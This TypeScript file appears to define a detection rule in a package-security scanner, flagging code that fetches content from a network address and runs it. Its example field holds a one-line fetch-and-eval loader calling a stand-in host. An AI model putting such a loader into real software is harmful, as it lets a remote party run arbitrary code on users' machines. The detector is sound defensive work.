import { REQUESTED } from "../../program/evaluate.ts";
import { isLocalHost, isOpenPackageAddress } from "../hosts.ts";
import type { Rule, Sighting } from "../rule.ts";
import type { LensView } from "../view.ts";
import { isInterpreter, takesData } from "../programs.ts";
import { flowsOf, placeOf } from "../view.ts";
import type { Use } from "../../program/uses.ts";
import { type Flow, OPEN, textsOf, type Value } from "../../program/value.ts";
import { hostOf } from "../../program/targets.ts";

export const runsRemoteCode: Rule = {
  id: "runs-remote-code",
  title: "Runs code that it fetches",
  why:
    "What is fetched can be another thing tomorrow, or for you alone: no review of the package sees it. " +
    "Honest loaders run what their caller names, not what an address in their own code gives.",
  example:
    'https.get("https://stage.invalid/2", (r) => { let s = ""; r.on("data", (d) => (s += d)); r.on("end", () => eval(s)); });',
  advice: "Do not install it, unless you trust whoever runs the address as much as the author.",
  severity: "critical",
  confidence: "high",
  look: (view) =>
    [...view.runs, ...view.spawns, ...view.program.uses.filter(isLoad)].flatMap((use) =>
      sightingOf(use, view),
    ),
};

function isLoad(use: Use): boolean {
  return use.path === "require" || use.path === "import" || use.path === "setTimeout";
}

function sightingOf(use: Use, view: LensView): readonly Sighting[] {
  const flow = flowsOf(use, "remote").find(({ what }) => !what.startsWith("dns."));
  if (flow === undefined) return [];
  if (!isCode(use, flow, view)) return [];
  if (flow.what === REQUESTED) return [sightingOfRequest(use)];
  const { host, isDecoded, isNamedByCaller } = originOf(flow, view);
  if (host === undefined && !isDecoded) {
    const message = `What ${flow.what} fetched is handed to ${use.path}.`;
    return [
      {
        place: placeOf(use),
        message,
        severity: use.spec?.takes === "run" ? "low" : "info",
        confidence: "low",
      },
    ];
  }
  if (host !== undefined && isLocalHost(host)) return [];
  const from = host ?? "an address that is hidden";
  const message = `What is fetched from ${from} is run by ${use.path}.`;
  const isMild = isNamedByCaller || !isGrave(use, view);
  const severity = isMild ? "medium" : use.spec?.takes === "run" ? "critical" : "high";
  return [{ place: placeOf(use), message, severity }];
}

/** A server that runs what any visitor sends it is a back door, whether it was meant so or not. */
function sightingOfRequest(use: Use): Sighting {
  const message = `What ${REQUESTED} holds is run by ${use.path}.`;
  // A server that loads what is asked for by name is careless; one that runs it is somebody's.
  const severity = use.path === "require" || use.path === "import" ? "medium" : "high";
  return { place: placeOf(use), message, severity, confidence: "medium" };
}

/** A name, a path or a version in what was fetched is not yet code. */
function isCode(use: Use, flow: Flow, view: LensView): boolean {
  if (use.spec?.takes === "run") return true;
  const [first = OPEN] = use.args;
  if (use.spec?.takes === "spawn") return isWhole(first, flow) || isArgument(use, flow, view);
  if (!first.flows.includes(flow) || use.path === "setTimeout") return false;
  // `import("file://" + path)`, `require("./plugins/" + name)`: a fixed beginning leads to a file.
  return !textsOf(first).some((text) => /^(?!data:|https?:)[^…]/.test(text));
}

/** A version in the path of an interpreter is no argument that it runs. */
function isArgument(use: Use, flow: Flow, view: LensView): boolean {
  const [first = OPEN, ...rest] = use.args;
  const isLine = textsOf(first).some(
    (line) => /\S\s/.test(line) && isInterpreter(line) && !takesData(line),
  );
  const isHandedOver = isLine || rest.some((arg) => arg.flows.includes(flow));
  return isHandedOver && runsArguments(use, view);
}

/** `sh -c`, `node -e` and their kin, whatever stands in their arguments. */
function runsArguments(use: Use, view: LensView): boolean {
  return view.commandsOf(use).some((command) => isInterpreter(command) && !takesData(command));
}

function isWhole(value: Value, flow: Flow): boolean {
  return value.flows.includes(flow) && value.constants.length === 0;
}

interface Origin {
  readonly host: string | undefined;
  readonly isDecoded: boolean;
  /** A package of a public network for packages, chosen by whoever calls. */
  readonly isNamedByCaller: boolean;
}

function originOf(flow: Flow, view: LensView): Origin {
  const request = view.sends.find(
    (use) => use.module === flow.module && use.call.node.start === flow.offset,
  );
  const unknown = { host: undefined, isDecoded: false, isNamedByCaller: false };
  if (request === undefined) {
    return flow.what === "XMLHttpRequest"
      ? { ...unknown, host: openedIn(flow.module, view) }
      : unknown;
  }
  const addresses = view.addressesOf(request);
  const isDecoded = flowsOf(request, "decoded", "decrypted").length > 0;
  return {
    host: addresses.map(hostOf).find((each) => each !== undefined && isNamed(each)),
    isDecoded: isDecoded && request.args[0]?.open !== false,
    isNamedByCaller: addresses.length > 0 && addresses.every(isOpenPackageAddress),
  };
}

/** A number or a word that stands where an address could is no host. */
function isNamed(host: string): boolean {
  return !host.startsWith("…") && (/[.:]/.test(host) || isLocalHost(host));
}

/**
 * A command from outside is grave at install, for an interpreter, or where its output goes back,
 * unless a person started the program that asks for it, as they do with assistants.
 */
function isGrave(use: Use, view: LensView): boolean {
  if (use.spec?.takes !== "spawn" || view.isAtInstall(use.module)) return true;
  if (view.isReachedFrom(use.module, "bin")) return false;
  if (runsArguments(use, view)) return true;
  return view.sends.some(
    (each) => each.module === use.module && flowsOf(each, "command-output").length > 0,
  );
}

/** An XMLHttpRequest learns its address by a call of its own. */
function openedIn(module: object, view: LensView): string | undefined {
  return view.sends
    .filter((use) => use.module === module && use.path === "XMLHttpRequest().open")
    .flatMap((use) => view.hostsOf(use))
    .find((host) => !host.startsWith("…"));
}
